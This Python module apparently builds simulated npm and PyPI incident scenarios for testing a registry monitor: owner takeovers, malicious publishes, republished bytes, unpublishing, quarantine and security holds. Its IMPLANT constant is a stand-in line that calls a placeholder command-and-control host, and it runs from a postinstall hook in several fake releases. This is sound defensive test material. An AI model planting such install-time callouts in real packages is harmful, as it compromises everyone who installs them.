"""Incidents, told step by step: each function does one thing to the registries, then yields.

    for step in takeover(npm, pypi):
        snapshot(step.targets)

so that an observer can look between any two steps. The first step of every story is the healthy
state. Between steps an hour passes on a frozen clock. Names and people are invented.
"""

from collections.abc import Iterator

from simulator import identity_stories, signed_stories
from simulator.npm import Npm
from simulator.npm_manifest import Person
from simulator.pypi import PyPI
from simulator.told import HOUR, PACKAGE, PROJECT, Step, Story

__all__ = ["HOUR", "PACKAGE", "PROJECT", "STORIES", "Step", "Story"]
IMPLANT = "require('node:https').get('https://collect.paint-cdn.example/c2');\n"


def takeover(npm: Npm, pypi: PyPI) -> Iterator[Step]:
    """A new owner publishes malware in both registries; it is taken down; a clean release follows.

    One old npm version is also given other bytes, so that drift has something to find.
    """
    targets = (f"npm:{PACKAGE}", f"pypi:{PROJECT}")
    _healthy_npm(npm)
    _healthy_pypi(pypi)
    yield Step("healthy", "three releases by ada, two owners", targets)
    _hour(npm, pypi)
    npm.add_owner(PACKAGE, Person("mallory", "mallory@inbox.example"))
    npm.remove_owner(PACKAGE, "ben")
    pypi.add_owner(PROJECT, "mallory")
    yield Step("owner-swap", "mallory joins the owners, ben is gone", targets)
    _hour(npm, pypi)
    npm.publish(PACKAGE, "1.2.1", by=Person("mallory", "mallory@inbox.example"),
                files={"index.js": "module.exports = 1;\n", "setup.js": IMPLANT},
                scripts={"postinstall": "node setup.js"},
                dependencies={"line-width": "^2.0.0", "plain-paint-js": "4.2.1"})
    npm.republish(PACKAGE, "1.1.0", {"index.js": "module.exports = 1;\n", "setup.js": IMPLANT})
    pypi.upload(PROJECT, "2.1.1", by="mallory", files={"setup.py": "import collect\n"})
    yield Step("malicious-publish", "1.2.1 with a postinstall hook, 2.1.1, other bytes in 1.1.0",
               targets)
    _hour(npm, pypi)
    npm.unpublish(PACKAGE, "1.2.1")
    npm.set_owner(PACKAGE, "ada", "ben")
    pypi.quarantine(PROJECT)
    yield Step("takedown", "1.2.1 leaves the registry, the PyPI project is quarantined", targets)
    _hour(npm, pypi)
    npm.publish(PACKAGE, "1.2.2", by="ada", dependencies={"line-width": "^2.0.0"},
                trusted_publisher="github", provenance=True)
    pypi.clear(PROJECT)
    pypi.delete_release(PROJECT, "2.1.1")
    pypi.remove_owner(PROJECT, "mallory")
    pypi.upload(PROJECT, "2.1.2", by="ada", provenance=True)
    yield Step("clean-release", "1.2.2 by trusted publishing, 2.1.2 after the quarantine", targets)


def ghost_version(npm: Npm, _pypi: PyPI) -> Iterator[Step]:
    """A version is published and taken down between two looks: only ``time`` remembers it."""
    _healthy_npm(npm)
    yield Step("healthy", "three releases", (f"npm:{PACKAGE}",))
    npm.tick(HOUR)
    npm.publish(PACKAGE, "1.2.1", by="ada", scripts={"preinstall": "node setup.js"})
    npm.tick(HOUR)
    npm.unpublish(PACKAGE, "1.2.1")
    yield Step("ghost", "1.2.1 came and went", (f"npm:{PACKAGE}",))


def republish(npm: Npm, pypi: PyPI) -> Iterator[Step]:
    """Other bytes under a published version, in both registries."""
    targets = (f"npm:{PACKAGE}", f"pypi:{PROJECT}")
    _healthy_npm(npm)
    _healthy_pypi(pypi)
    yield Step("healthy", "the first bytes", targets)
    _hour(npm, pypi)
    npm.republish(PACKAGE, "1.1.0", {"index.js": IMPLANT})
    pypi.replace_file(PROJECT, "paint_lines_py-2.0.0.tar.gz", b"other bytes")
    yield Step("republished", "other bytes in npm 1.1.0 and in PyPI's 2.0.0 sdist", targets)


def whole_unpublish(npm: Npm, _pypi: PyPI) -> Iterator[Step]:
    """A package is unpublished whole, and its name taken again two days later."""
    _healthy_npm(npm)
    yield Step("healthy", "three releases", (f"npm:{PACKAGE}",))
    npm.tick(HOUR)
    npm.unpublish_all(PACKAGE)
    yield Step("tombstone", "the package is gone", (f"npm:{PACKAGE}",))
    if npm.clock.frozen:
        npm.tick(48 * HOUR)
        npm.publish(PACKAGE, "2.0.0", by="mallory")
        yield Step("re-registered", "mallory holds the name", (f"npm:{PACKAGE}",))


def owner_swap(npm: Npm, pypi: PyPI) -> Iterator[Step]:
    """All owners are replaced by one new account; nothing is published."""
    targets = (f"npm:{PACKAGE}", f"pypi:{PROJECT}")
    _healthy_npm(npm)
    _healthy_pypi(pypi)
    yield Step("healthy", "ada and ben on npm, ada on PyPI", targets)
    _hour(npm, pypi)
    npm.set_owner(PACKAGE, "mallory")
    pypi.set_owner(PROJECT, "mallory")
    yield Step("swapped", "mallory alone", targets)


def late_file(_npm: Npm, pypi: PyPI) -> Iterator[Step]:
    """A wheel appears on a release that is more than a year old."""
    _healthy_pypi(pypi)
    yield Step("healthy", "every file was uploaded with its release", (f"pypi:{PROJECT}",))
    pypi.tick(HOUR)
    pypi.upload(PROJECT, "2.0.0", "paint_lines_py-2.0.0-py3-none-any.whl", allow_late=True,
                files={"paint_lines_py/__init__.py": "import collect\n"})
    yield Step("late-file", "a wheel on 2.0.0, a year after its sdist", (f"pypi:{PROJECT}",))


def yank_and_unyank(_npm: Npm, pypi: PyPI) -> Iterator[Step]:
    """A release is yanked with a reason, and the yank is taken back."""
    _healthy_pypi(pypi)
    yield Step("healthy", "nothing is yanked", (f"pypi:{PROJECT}",))
    pypi.tick(HOUR)
    pypi.yank(PROJECT, "2.1.0", "breaks on Windows")
    yield Step("yanked", "2.1.0 is yanked", (f"pypi:{PROJECT}",))
    pypi.tick(HOUR)
    pypi.unyank(PROJECT, "2.1.0")
    yield Step("unyanked", "2.1.0 is back", (f"pypi:{PROJECT}",))


def quarantine(_npm: Npm, pypi: PyPI) -> Iterator[Step]:
    """A project is quarantined: the JSON API says 404 while the Simple API answers; then freed."""
    _healthy_pypi(pypi)
    yield Step("healthy", "active", (f"pypi:{PROJECT}",))
    pypi.tick(HOUR)
    pypi.quarantine(PROJECT)
    yield Step("quarantined", "no file is offered", (f"pypi:{PROJECT}",))
    pypi.tick(HOUR)
    pypi.clear(PROJECT)
    yield Step("cleared", "every file is back", (f"pypi:{PROJECT}",))


def security_hold(npm: Npm, _pypi: PyPI) -> Iterator[Step]:
    """A package that is malware as a whole is replaced by npm's security holder."""
    npm.publish("plain-paint-js", "4.2.0", by="mallory", at=npm.clock.ago(seconds=7 * HOUR))
    npm.publish("plain-paint-js", "4.2.1", by="mallory", scripts={"postinstall": "node setup.js"},
                files={"setup.js": IMPLANT}, at=npm.clock.ago(seconds=HOUR))
    yield Step("malware", "two versions", ("npm:plain-paint-js",))
    npm.tick(HOUR)
    npm.security_hold("plain-paint-js")
    yield Step("held", "0.0.1-security stands alone", ("npm:plain-paint-js",))


STORIES: dict[str, Story] = {
    story.__name__.replace("_", "-"): story
    for story in (takeover, ghost_version, republish, whole_unpublish, owner_swap, late_file,
                  yank_and_unyank, quarantine, security_hold, *identity_stories.STORIES,
                  *signed_stories.STORIES)
}


def _healthy_npm(npm: Npm) -> None:
    for version, days in (("1.0.0", 700), ("1.1.0", 400), ("1.2.0", 90)):
        npm.publish(PACKAGE, version, by="ada", at=npm.clock.ago(days=days),
                    dependencies={"line-width": "^2.0.0"}, scripts={"test": "node test.js"},
                    description="Draws lines in terminals")
        if version == "1.0.0":
            npm.add_owner(PACKAGE, "ben", at=npm.clock.ago(days=days))


def _healthy_pypi(pypi: PyPI) -> None:
    for version, days in (("2.0.0", 400), ("2.1.0", 60)):
        pypi.upload(PROJECT, version, by="ada", at=pypi.clock.ago(days=days),
                    summary="Draws lines in terminals")
    pypi.upload(PROJECT, "2.1.0", "paint_lines_py-2.1.0-py3-none-any.whl", by="ada",
                at=pypi.clock.ago(days=60, seconds=-4))


def _hour(npm: Npm, pypi: PyPI) -> None:
    npm.tick(HOUR)
    if pypi.clock is not npm.clock:
        pypi.tick(HOUR)
